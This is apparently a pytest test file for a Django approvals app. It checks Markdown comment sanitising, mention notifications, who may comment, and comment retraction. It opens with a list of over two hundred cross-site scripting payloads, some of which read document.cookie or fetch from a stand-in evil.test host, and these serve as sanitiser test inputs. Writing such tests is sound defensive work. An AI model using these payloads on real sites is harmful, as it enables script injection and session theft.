"""Comments in Markdown: safe whatever they hold, told to those they mention, and taken back by their author."""

from html.parser import HTMLParser

import pytest
from django.test import Client

from approvals.actions.comments import comment, take_back_comment
from approvals.audience import mentioned_in, people_who_see
from approvals.markdown import SCHEMES, TAGS, html
from approvals.models import Comment, Mention
from approvals.sight import visible_deals
from journal.refusals import Conflict, Invalid, NotAllowed
from teams.models import User
from teams.standing import person_of
from tests.approvals.asking import told, verbs
from tests.factories import COMMITTEE_PRICE, World, draft, submitted

SCRIPTS = (
    "alert(1)", "eval(name)", "fetch('//evil.test')", "document.cookie", "import('//evil.test/x.js')",
)  # fmt: skip
SHELLS = (
    "<script>{0}</script>",
    "<SCRIPT SRC=//evil.test/x.js>{0}</SCRIPT>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<img src=x onerror={0}>",
    "<img src=x onerror=\"{0}\" style=x>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}></style></mglyph></table></mtext></math>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0}>x</a>",
    "<a href='&#106;avascript:{0}'>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<base href=//evil.test/><p>{0}",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=//evil.test/x.css>{0}",
    "<style>@import '//evil.test/{0}'</style>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<p style=\"background:url(javascript:{0})\">x</p>",
    "<div id=x class=btn onclick={0}>x</div>",
    "[x](javascript:{0})",
    "[x](JaVaScRiPt:{0})",
    "[x](java\tscript:{0})",
    "[x](&#x6A;avascript:{0})",
    "[x](vbscript:{0})",
    "[x](data:text/html,<script>{0}</script>)",
    "[x](data:image/svg+xml;base64,{0})",
    "[x](<javascript:{0}>)",
    "[x]: javascript:{0}\n\n[x]",
    "[x](http://a\" onmouseover=\"{0})",
    "[x](/ok 'title\" onmouseover=\"{0}')",
    "![x](javascript:{0})",
    "![x](x\" onerror=\"{0})",
    "![{0}](//evil.test/pixel.png)",
    "<javascript:{0}>",
    "<http://a.test/\"onmouseover=\"{0}>",
    "`<script>{0}</script>`",
    "```\"><script>{0}</script>\nx\n```",
    "~~~ html onload={0}\n<img src=x onerror={0}>\n~~~",
    "> <script>{0}</script>",
    "- <img src=x onerror={0}>",
    "| a |\n|---|\n| <img src=x onerror={0}> |",
    "@Anke Claes<img src=x onerror={0}>",
    "@Anke Claes\" onmouseover=\"{0}",
)  # fmt: skip
HOSTILE = [shell.format(script) for shell in SHELLS for script in SCRIPTS]


class Elements(HTMLParser):
    """Every element and attribute of a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_more_than_two_hundred_payloads_are_tried() -> None:
    assert len(set(HOSTILE)) >= 200


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_comment_gives_harmless_tags_only(payload: str) -> None:
    """Seen to fail: with `html` true and nh3 left out; with `javascript` among the schemes."""
    for tag, attributes in Elements(html(payload, ["Anke Claes"])).found:
        assert tag in TAGS
        assert set(attributes) <= {"href", "rel", "class", "start"}
        if "href" in attributes:
            scheme, colon, _rest = (attributes["href"] or "").partition(":")
            assert not colon or scheme.lower() in SCHEMES or "/" in scheme
            assert attributes["rel"] == "nofollow noopener noreferrer"
        assert attributes.get("class", "mention") == "mention"


def test_markdown_is_shown_as_such() -> None:
    text = "**bold**, *soft*\n- one\n- two\n\n> said\n\n[there](https://example.test/) and [here](/deals/D-1001/)"
    shown = html(text)
    for part in ("<strong>bold</strong>", "<em>soft</em>", "<li>one</li>", "<blockquote>", 'href="/deals/D-1001/"'):
        assert part in shown


def test_mention_is_marked_where_it_stands() -> None:
    assert html("Ask @Anke Claes.", ["Anke Claes"]) == '<p>Ask <span class="mention">@Anke Claes</span>.</p>\n'
    assert "mention" not in html("`@Anke Claes`", ["Anke Claes"])


# --- writing ---


def test_comment_tells_those_it_mentions_and_the_contact(made: World) -> None:
    deal = submitted(made, price=COMMITTEE_PRICE)
    own = comment(deal=deal, by=made.ines, at=made.at, text="What of year two, @Chloé Lambert? @Bram knows it.")
    assert set(Mention.objects.filter(comment=own).values_list("user_id", flat=True)) == {made.chloe.pk, made.bram.pk}
    assert told("deal.commented") == {made.chloe.pk, made.bram.pk}
    assert verbs(deal)[-1] == "deal.commented"


def test_comment_never_mentions_somebody_who_cannot_see_the_deal(made: World) -> None:
    deal = draft(made)
    comment(deal=deal, by=made.anke, at=made.at, text="@Gilles Dubois @Inès Martens @Quinten Bos @Femke look")
    assert not Mention.objects.exists()
    assert told("deal.commented") == {made.bram.pk}


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("@Anke Claes", ["Anke Claes"]),
        ("@anke claes, please", ["Anke Claes"]),
        ("@Anke", ["Anke Claes"]),
        ("@Ankes", []),
        ("mail@Anke", []),
        ("@Bram", ["Bram Wouters"]),
        ("nobody", []),
    ],
)
def test_mentioned_in_finds_names_as_people_write_them(made: World, text: str, names: list[str]) -> None:
    people = [made.anke, made.bram, made.chloe]
    assert [person.name for person in mentioned_in(text, people)] == names


def test_first_name_of_two_people_mentions_neither(made: World) -> None:
    other = User(name="Anke Peeters")
    assert mentioned_in("@Anke", [made.anke, other]) == []
    assert mentioned_in("@Anke Peeters", [made.anke, other]) == [other]


def test_people_who_see_a_deal_are_those_whom_its_page_lets_in(made: World) -> None:
    """Seen to fail: without the committees; without the auditors."""
    deal = submitted(made, price=COMMITTEE_PRICE)
    listed = {person.pk for person in people_who_see(deal, made.today)}
    people = User.objects.filter(is_active=True)
    let_in = {one.pk for one in people if visible_deals(person_of(one, made.today)).filter(pk=deal.pk).exists()}
    assert listed == let_in
    assert made.lien.pk in listed and made.gilles.pk not in listed


@pytest.mark.parametrize("by", ["gilles", "nora", "olivier", "petra", "quinten"])
def test_comment_by_somebody_who_only_reads_or_sees_nothing_is_refused(made: World, by: str) -> None:
    with pytest.raises(NotAllowed):
        comment(deal=submitted(made, price=COMMITTEE_PRICE), by=made.people[by], at=made.at, text="Hello.")


@pytest.mark.parametrize(("text", "code"), [(" \n ", "no_text"), ("x" * 10_001, "too_long")])
def test_comment_without_or_with_too_much_text_is_refused(made: World, text: str, code: str) -> None:
    with pytest.raises(Invalid) as refusal:
        comment(deal=draft(made), by=made.bram, at=made.at, text=text)
    assert refusal.value.code == code


def test_comment_taken_back_is_erased_by_its_author_alone(made: World) -> None:
    own = comment(deal=draft(made), by=made.bram, at=made.at, text="Not for here.")
    with pytest.raises(NotAllowed):
        take_back_comment(comment=own, by=made.anke, at=made.at)
    take_back_comment(comment=own, by=made.bram, at=made.at)
    assert Comment.objects.get().text == ""
    with pytest.raises(Conflict):
        take_back_comment(comment=own, by=made.bram, at=made.at)


def test_page_shows_a_hostile_comment_as_text(made: World) -> None:
    deal = draft(made)
    comment(deal=deal, by=made.bram, at=made.at, text="<script>alert(1)</script> @Anke Claes")
    client = Client()
    client.force_login(made.anke)
    page = client.get(f"/deals/{deal.reference}/").content.decode()
    assert "<script>alert" not in page
    assert '<span class="mention">@Anke Claes</span>' in page
